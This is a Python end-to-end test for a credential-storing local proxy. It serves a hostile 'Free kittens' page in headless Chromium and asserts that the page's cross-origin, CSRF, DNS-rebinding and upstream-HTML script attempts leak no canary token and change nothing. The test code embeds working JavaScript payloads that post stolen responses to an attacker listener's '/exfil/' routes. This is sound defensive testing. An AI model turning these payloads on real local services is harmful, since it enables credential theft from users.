"""A hostile web page, opened in a real headless Chromium beside the running server, tries every way we know to
reach the stored credentials: simple cross-origin requests with `text/plain` JSON, form posts, a DNS-rebinding
`Host`, the testConnection URL swap, the connector PATCH, reading a forward answer, and upstream HTML that runs
script as the proxy's origin. The page is served from another loopback port (another origin); what it manages
to learn it posts back to its own server, the attacker's listener. The test asserts that no canary credential
and no stored id reached the listener, no request reached the real upstream, and nothing changed on the server.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests.conftest import RunningProxy, chat_connection
from tests.helpers import launch
from tests.upstream import Reply, Upstream

pytestmark = pytest.mark.e2e
CANARY = "canary-Tok3n-do-not-leak-7731"
CONNECTOR_CANARY = "canary-Svc-Token-do-not-leak-5519"
REBIND_HOST = "rebind.attacker.example"
# DNS rebinding without DNS: the attacker's name resolves to the loopback address the proxy listens on.
REBIND_RULE = f"--host-resolver-rules=MAP {REBIND_HOST} 127.0.0.1"

ATTACK_PAGE = """<!doctype html><html><body><h1>Free kittens</h1>
<script>
const P = %(proxy)s, A = location.origin, CONN = %(conn_id)s;
const sleep = ms => new Promise(r => setTimeout(r, ms));
async function exfil(tag, data) {
  await fetch(A + "/exfil/" + tag, {method: "POST", body: String(data)}).catch(() => {});
}
async function attempt(tag, call) {
  try {
    const answer = await call();
    let text = "opaque";
    try { text = await answer.text(); } catch (e) {}
    await exfil(tag, answer.status + " " + text);
  } catch (e) { await exfil(tag, "refused " + e); }
}
const plain = body => ({method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                        body: JSON.stringify(body)});
function formPost(action, fields) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random().toString(36).slice(2);
  document.body.appendChild(frame);
  const form = document.createElement("form");
  form.method = "POST"; form.action = action; form.target = frame.name;
  form.enctype = "application/x-www-form-urlencoded";
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    input.type = "hidden"; input.name = name; input.value = value; form.appendChild(input);
  }
  document.body.appendChild(form);
  form.submit();
}
(async () => {
  const stolenConnection = {name: "stolen", productId: "p", type: "CONVERSATION", url: A + "/steal-create",
    authType: "NONE", inputTemplate: '{"m": "{{ input }}"}', outputMapping: {output: "$.x"},
    acknowledgedInsecureHttp: true};
  await attempt("create", () => fetch(P + "/endpointConnections", plain(stolenConnection)));
  await attempt("swap", () => fetch(P + "/endpointConnections/testConnection",
                                    plain({id: CONN, url: A + "/steal-swap"})));
  await attempt("list", () => fetch(P + "/endpointConnections"));
  await attempt("get", () => fetch(P + "/endpointConnections/" + CONN));
  await attempt("connector", () => fetch(P + "/v1/connectors/docs", {method: "PATCH",
    headers: {"Content-Type": "application/json"}, body: JSON.stringify({url: A + "/steal-connector"})}));
  await attempt("search", () => fetch(P + "/v1/connectors/docs/search", plain({query: "x"})));
  await attempt("forward-read", () => fetch(P + "/forward/chat/v1/private"));
  await attempt("forward-post", () => fetch(P + "/forward/chat/v1/private", plain({q: "x"})));
  await attempt("forward-preflight", () => fetch(P + "/forward/chat/v1/private", {method: "POST",
    headers: {"Content-Type": "application/json"}, body: "{}"}));
  formPost(P + "/endpointConnections", {[JSON.stringify(stolenConnection)]: ""});
  formPost(P + "/forward/chat/v1/private", {q: "x"});
  formPost(P + "/inspector/connections/" + CONN + "/test", {input: '{"user_message": "x"}'});
  formPost(P + "/v1/connectors/docs/search", {query: "x"});
  await sleep(1500);
  window.attackDone = true;
})();
</script></body></html>"""

# What the upstream answers on the forward route: HTML whose script would read the admin API as the proxy's origin.
UPSTREAM_HTML = """<!doctype html><html><body>upstream page<script>
fetch("/endpointConnections").then(r => r.text())
  .then(t => fetch(%(attacker)s + "/exfil/upstream-html", {method: "POST", mode: "no-cors", body: t}));
</script></body></html>"""


def server_state(client: httpx.Client) -> dict[str, Any]:
    return {
        "connections": client.get("/endpointConnections").json(),
        "connectors": client.get("/v1/connectors").json(),
    }


def test_a_hostile_page_learns_nothing_and_changes_nothing(
    proxy_server: RunningProxy,
    upstream: Upstream,
    upstream_url: str,
    attacker: tuple[Upstream, str],
    tmp_path: Path,
) -> None:
    from playwright.sync_api import sync_playwright

    listener, evil = attacker
    upstream.handle("/search", lambda r: Reply(json={"results": [{"id": "d1", "text": "doc"}]}))
    upstream.handle(
        "/v1/page",
        lambda r: Reply(text=UPSTREAM_HTML % {"attacker": json.dumps(evil)}, headers={"content-type": "text/html"}),
    )
    with httpx.Client(base_url=proxy_server.url) as client:
        conn = client.post("/endpointConnections", json=chat_connection(upstream_url, authToken=CANARY)).json()
        connector = {
            "name": "docs",
            "url": f"{upstream_url}/search",
            "service_auth": {"type": "bearer", "token": CONNECTOR_CANARY},
        }
        assert client.post("/v1/connectors", json=connector).status_code == 200
        before = server_state(client)
    upstream.received.clear()
    page_html = ATTACK_PAGE % {"proxy": json.dumps(proxy_server.url), "conn_id": json.dumps(conn["id"])}
    listener.handle("/attack", lambda r: Reply(text=page_html, headers={"content-type": "text/html"}))
    port = urlsplit(proxy_server.url).port

    with sync_playwright() as p:
        browser = launch(p, REBIND_RULE)
        page = browser.new_page()
        page.goto(f"{evil}/attack")
        page.wait_for_function("window.attackDone === true", timeout=30_000)
        page.screenshot(path=str(tmp_path / "attack.png"))
        # DNS rebinding: the attacker's name now points at the proxy; the page would be same-origin with it.
        rebound = page.goto(f"http://{REBIND_HOST}:{port}/endpointConnections")
        assert rebound is not None and rebound.status == 403
        assert conn["id"] not in page.content()
        # The user opens a forward answer that is upstream HTML: it must not run as the proxy's origin.
        shown = page.goto(f"{proxy_server.url}/forward/chat/v1/page")
        assert shown is not None and shown.status == 200 and "upstream page" in page.content()
        page.wait_for_timeout(1500)
        browser.close()

    learned = {r.path: r.body.decode(errors="replace") for r in listener.received if r.path.startswith("/exfil/")}
    assert {"/exfil/create", "/exfil/swap", "/exfil/list", "/exfil/forward-read"} <= set(learned), learned
    everything = " ".join(f"{r.path} {r.headers} {r.body!r}" for r in listener.received)
    for secret in (CANARY, CONNECTOR_CANARY, conn["id"]):
        assert secret not in everything
    assert "/exfil/upstream-html" not in learned  # the upstream page's script never ran
    assert not [r.path for r in listener.received if r.path.startswith("/steal")]
    # Only the user's own navigation to the forward page reached the real upstream; nothing the page sent did.
    assert [r.path for r in upstream.received] == ["/v1/page"]
    with httpx.Client(base_url=proxy_server.url) as client:
        assert server_state(client) == before
